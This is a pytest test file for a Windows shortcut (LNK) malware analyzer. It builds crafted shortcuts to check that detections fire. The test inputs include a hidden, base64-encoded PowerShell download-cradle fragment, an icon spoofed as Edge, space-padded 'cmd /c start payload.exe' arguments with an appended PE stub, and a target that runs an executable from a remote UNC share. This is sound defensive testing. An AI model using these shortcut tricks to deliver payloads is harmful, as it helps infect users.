"""LNK analyzer: real shortcuts (strelka PoC, InQuest in-the-wild, a benign one) and crafted ones."""

from __future__ import annotations

import struct

import pytest

from coinguard.analyzers.lnk import LnkAnalyzer, obfuscation_signs, program_name
from coinguard.findings import Finding, Item

from helpers import DATA, codes, read_corpus_sample, run_handler

LNK_CLSID = bytes.fromhex("0114020000000000c000000000000046")
HAS_RELATIVE_PATH, HAS_WORKING_DIR, HAS_ARGUMENTS, HAS_ICON, IS_UNICODE = 0x8, 0x10, 0x20, 0x40, 0x80


def build_lnk(target: str, args: str = "", icon: str = "", workdir: str = "") -> bytes:
    """A minimal [MS-SHLLINK] shortcut: header + Unicode StringData + terminal block."""
    flags = IS_UNICODE | HAS_RELATIVE_PATH
    strings = b""
    for flag, text in ((HAS_RELATIVE_PATH, target), (HAS_WORKING_DIR, workdir), (HAS_ARGUMENTS, args),
                       (HAS_ICON, icon)):
        if text or flag == HAS_RELATIVE_PATH:
            flags |= flag
            strings += struct.pack("<H", len(text)) + text.encode("utf-16-le")
    header = struct.pack("<I16sII", 0x4C, LNK_CLSID, flags, 0x20) + b"\x00" * 24 + struct.pack("<IiI", 0, 0, 1)
    header += b"\x00" * (0x4C - len(header))
    return header + strings + b"\x00\x00\x00\x00"


def run(data: bytes, name: str = "invoice.pdf.lnk") -> tuple[list[Finding], list[Item]]:
    return run_handler(LnkAnalyzer(), data, name)


def test_strelka_poc_runs_calc() -> None:
    findings, children = run((DATA / "strelka_test.lnk").read_bytes())
    assert codes(findings) == {"lnk.present", "lnk.exec_target"}
    assert "calc.exe" in findings[0].detail and "-testCommands" in findings[0].detail
    assert children == []


@pytest.mark.corpus
def test_inquest_lnk_runs_wscript(corpus_dir: object) -> None:
    findings, _ = run(read_corpus_sample("maldocs/inquest/system.lnk.zip"))
    assert codes(findings) == {"lnk.present", "lnk.exec"}
    assert "wscript" in next(f.detail for f in findings if f.code == "lnk.exec")


@pytest.mark.corpus
def test_benign_shortcut_to_a_document(corpus_dir: object) -> None:
    findings, _ = run(read_corpus_sample("benign/attachments/pyhwpscan/sample.hwp.lnk"))
    assert codes(findings) == {"lnk.present"}
    scores = {c.code: c.score for c in LnkAnalyzer.codes}
    assert sum(scores[f.code] for f in findings) < 5


def test_crafted_powershell_encoded_with_icon_spoof() -> None:
    data = build_lnk(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        args="-w hidden -enc " + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" * 2,
        icon=r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    )
    findings, _ = run(data)
    assert codes(findings) == {"lnk.present", "lnk.exec", "lnk.obfuscated_args", "lnk.icon_spoof"}


def test_crafted_padding_and_appended_payload() -> None:
    data = build_lnk(r"C:\Windows\System32\cmd.exe", args=" " * 300 + "/c start payload.exe")
    payload = b"MZ" + b"\x90" * 200
    findings, children = run(data + payload)
    assert codes(findings) == {"lnk.present", "lnk.exec", "lnk.obfuscated_args", "lnk.appended_data"}
    assert len(children) == 1 and children[0].data == payload and children[0].type == "pe"
    assert children[0].role == "embedded"


def test_crafted_unc_target() -> None:
    findings, _ = run(build_lnk(r"\\198.51.100.7\share\doc.exe"))
    assert codes(findings) == {"lnk.present", "lnk.exec_target", "lnk.remote_target"}


def test_truncated_shortcut_is_a_parse_error() -> None:
    data = build_lnk(r"C:\Windows\System32\cmd.exe", args="/c calc")[:40]
    findings, _ = run(data)
    assert codes(findings) == {"lnk.present", "lnk.parse_error"}


def test_helpers() -> None:
    assert program_name(r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"') == "powershell"
    assert obfuscation_signs("%COMSPEC:~-16,1%") == ["env-var substring"]
    assert obfuscation_signs("readme.txt") == []
